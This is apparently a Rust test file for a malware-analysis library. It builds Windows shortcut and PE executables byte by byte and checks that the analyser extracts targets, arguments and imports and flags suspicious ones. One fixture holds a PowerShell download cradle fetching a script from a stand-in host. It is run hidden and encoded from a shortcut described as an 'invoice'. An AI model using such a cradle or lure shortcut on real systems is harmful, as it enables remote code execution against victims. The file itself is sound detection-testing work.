//! Shortcuts and executables built byte by byte.

mod common;

use common::*;
use mozu_model::{LnkInfo, PeInfo, Severity};
use mozu_script::{Analysis, Details, analyse_lnk, analyse_pe, parse_lnk, parse_pe};

const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')";

fn lnk_info(analysis: &Analysis) -> &LnkInfo {
    match &analysis.info {
        Some(Details::Lnk(info)) => info,
        other => panic!("expected lnk details, got {other:?}"),
    }
}

fn pe_info(analysis: &Analysis) -> &PeInfo {
    match &analysis.info {
        Some(Details::Pe(info)) => info,
        other => panic!("expected PE details, got {other:?}"),
    }
}

fn spec(id_list: bool, link_info: bool, environment_block: bool, unicode: bool) -> LnkSpec {
    LnkSpec {
        id_list,
        link_info,
        environment_block,
        unicode,
        arguments: format!("-w hidden -enc {}", encode_command(CRADLE)),
        working_dir: "%SystemRoot%\\System32".to_string(),
    }
}

#[test]
fn powershell_shortcut_with_encoded_arguments() {
    let bytes = build_lnk(&spec(true, true, true, true));
    let analysis = analyse_lnk(&bytes);
    assert!(analysis.warnings.is_empty(), "{:?}", analysis.warnings);
    let info = lnk_info(&analysis);
    assert_eq!(info.target.as_deref(), Some(POWERSHELL));
    assert!(
        info.arguments
            .as_deref()
            .is_some_and(|args| args.starts_with("-w hidden -enc "))
    );
    assert_eq!(info.working_dir.as_deref(), Some("%SystemRoot%\\System32"));
    assert_eq!(
        info.icon_location.as_deref(),
        Some("%SystemRoot%\\System32\\shell32.dll")
    );
    assert_eq!(info.description.as_deref(), Some("請求書"));
    let command = analysis
        .findings
        .iter()
        .find(|f| f.id == "lnk.command")
        .expect("lnk.command");
    assert_eq!(command.severity, Severity::High);
    assert!(
        command
            .evidence
            .iter()
            .any(|e| e.value.starts_with("powershell -w hidden")),
        "{command:?}"
    );
    assert_eq!(analysis.children.len(), 1);
    assert_eq!(String::from_utf8_lossy(&analysis.children[0].data), CRADLE);
    assert!(analysis.findings.iter().any(|f| f.id == "script.encoded_payload"));
    assert!(analysis.texts.iter().any(|t| t == POWERSHELL));
}

#[test]
fn target_from_each_source() {
    let link = parse_lnk(&build_lnk(&spec(true, true, true, true))).expect("link");
    assert_eq!(
        link.id_list_path.as_deref(),
        Some(POWERSHELL),
        "long names from BEEF0004 blocks"
    );
    assert_eq!(link.local_path.as_deref(), Some(POWERSHELL));
    let id_list_only = analyse_lnk(&build_lnk(&spec(true, false, false, true)));
    assert_eq!(lnk_info(&id_list_only).target.as_deref(), Some(POWERSHELL));
    let environment_only = analyse_lnk(&build_lnk(&spec(false, false, true, false)));
    let target = lnk_info(&environment_only).target.clone().unwrap_or_default();
    assert_eq!(target, "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    // ANSI strings are read as code page 932 (Japanese Windows).
    assert_eq!(lnk_info(&environment_only).description.as_deref(), Some("請求書"));
    assert!(environment_only.findings.iter().any(|f| f.id == "lnk.command"));
}

#[test]
fn plain_document_shortcut_is_quiet() {
    let mut plain = spec(false, false, false, true);
    plain.arguments = String::new();
    let analysis = analyse_lnk(&build_lnk(&plain));
    assert!(analysis.findings.is_empty(), "{:?}", analysis.findings);
    assert!(analyse_lnk(b"not a shortcut").warnings[0].contains("not a shell link"));
}

#[test]
fn pe32_and_pe32_plus() {
    // 2016-10-30 09:42:15 UTC.
    let exe = analyse_pe(&build_pe(false, 1_477_820_535, 0x0102));
    assert!(exe.warnings.is_empty(), "{:?}", exe.warnings);
    let info = pe_info(&exe);
    assert_eq!(info.machine, "x86");
    assert_eq!(info.timestamp.as_deref(), Some("2016-10-30T09:42:15Z"));
    assert_eq!((info.sections, info.imports, info.is_dll), (3, 5, false));
    let finding = exe
        .findings
        .iter()
        .find(|f| f.id == "pe.executable")
        .expect("pe.executable");
    assert_eq!(finding.severity, Severity::Medium);
    assert!(finding.evidence.iter().any(|e| e.value == "KERNEL32.dll"));
    assert!(finding.evidence.iter().any(|e| e.value == "WININET.dll"));
    let dll = analyse_pe(&build_pe(true, 0x6000_0000, 0x2022));
    assert!(dll.warnings.is_empty(), "{:?}", dll.warnings);
    let info = pe_info(&dll);
    assert_eq!(info.machine, "x86_64");
    assert_eq!((info.sections, info.imports, info.is_dll), (3, 5, true));
    let headers = parse_pe(&build_pe(true, 1, 0x22)).expect("headers");
    assert!(headers.pe32_plus);
    assert_eq!(
        headers.import_dlls,
        vec!["KERNEL32.dll".to_string(), "WININET.dll".to_string()]
    );
}
